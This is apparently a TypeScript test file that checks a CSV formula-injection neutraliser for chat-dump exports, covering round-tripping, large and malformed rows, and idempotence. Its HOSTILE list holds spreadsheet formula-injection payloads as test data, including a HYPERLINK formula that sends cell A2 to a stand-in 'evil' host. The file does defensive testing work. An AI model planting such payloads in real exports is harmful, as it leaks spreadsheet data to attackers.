/**
 * Issue 12, point 13: a provider's CSV is neutralised before it is saved, row for row.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreFormula } from './chatDumpCells';
import { neutraliseChatDump } from './neutraliseChatDump';
import { parseChatDump } from './parseChatDump';

const HEADER =
  'id,participantId,sessionId,meetingId,displayName,pinned,isEdited,payloadType,payload,createdAt,extra';

/** The kinds of cell a spreadsheet runs as a formula, as a provider's dump would hold them. */
const HOSTILE = [
  '=HYPERLINK("https://evil/?"&A2,"Open")',
  '+1+2',
  '-2+3',
  '@SUM(1,1)',
  '\t=1',
  '\r=1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u3000=1',
  '＝HYPERLINK("https://evil")',
  '＋1',
  '－1',
  '＠SUM(1)',
];

function row(i: number, payload: string, extra = '') {
  return [
    `m${i}`,
    `p${i}`,
    's1',
    'meet',
    `User ${i}`,
    'false',
    'false',
    'TEXT_MESSAGE',
    payload,
    '2026-01-01T10:00:00.000Z',
    extra,
  ];
}

function providerCsv(newline = '\r\n'): string {
  const rows = HOSTILE.map((payload, i) => row(i, payload, i === 0 ? '=1+1' : ''));
  rows.push(row(99, 'line one\nline two, "quoted"'));
  rows.push(row(100, 'plain text'));
  return `\ufeff${HEADER}${newline}${Papa.unparse(rows, { newline })}${newline}${newline}`;
}

async function cellsOf(blob: Blob): Promise<string[][]> {
  const text = await blob.text();
  const { data } = Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { skipEmptyLines: true });
  return data;
}

describe('neutraliseChatDump', () => {
  it('prefixes every formula-like cell, keeps every row and column, and parses back to the original', async () => {
    for (const newline of ['\r\n', '\n']) {
      const csv = providerCsv(newline);
      const safe = await neutraliseChatDump(new Blob([csv]));
      const cells = await cellsOf(safe);
      expect(cells).toHaveLength(HOSTILE.length + 3);
      expect(cells[0]).toEqual(HEADER.split(','));
      for (const [i, payload] of HOSTILE.entries()) {
        expect(cells[i + 1]?.[8]).toBe(`'${payload}`);
      }
      expect(cells[1]?.[10]).toBe("'=1+1");
      expect(cells.at(-2)?.[8]).toBe('line one\nline two, "quoted"');
      expect(cells.at(-1)?.[8]).toBe('plain text');
      const { messages, errors } = await parseChatDump(safe);
      expect(errors).toEqual([]);
      expect(messages.map((m) => (m.type === 'text' ? m.message : m.type))).toEqual([
        ...HOSTILE,
        'line one\nline two, "quoted"',
        'plain text',
      ]);
    }
  });

  it('keeps malformed rows and rows of any width, and streams a dump larger than one chunk', async () => {
    const big = Array.from({ length: 30_000 }, (_, i) => row(i, i % 3 ? `=${i}` : `msg ${i}`));
    const csv = `${HEADER}\n${Papa.unparse(big, { newline: '\n' })}\nshort,row\n"unclosed,quote\n`;
    const safe = await neutraliseChatDump(new Blob([csv]));
    const cells = await cellsOf(safe);
    expect(cells.length).toBeGreaterThanOrEqual(30_003);
    expect(cells[2]?.[8]).toBe("'=1");
    expect(cells[30_000]?.[8]).toBe("'=29999");
    expect(cells[30_001]).toEqual(['short', 'row']);
    expect((await safe.text()).includes('unclosed')).toBe(true);
  });

  it('leaves a dump the kit wrote as it is: neutralising twice changes nothing', async () => {
    const once = await neutraliseChatDump(new Blob([providerCsv()]));
    const twice = await neutraliseChatDump(once);
    expect(await cellsOf(twice)).toEqual(await cellsOf(once));
  });

  it('the cell rule round-trips behind spaces, NBSP, zero-width and full-width triggers', () => {
    for (const cell of [...HOSTILE, "'=1", "''@x", 'hello', ' hello', '', '5', "'"]) {
      expect(restoreFormula(neutraliseFormula(cell))).toBe(cell);
    }
    for (const cell of HOSTILE) expect(neutraliseFormula(cell)).toBe(`'${cell}`);
    for (const cell of ['hello', ' hello', '\u00a0x', 'a=b', '5'])
      expect(neutraliseFormula(cell)).toBe(cell);
  });
});
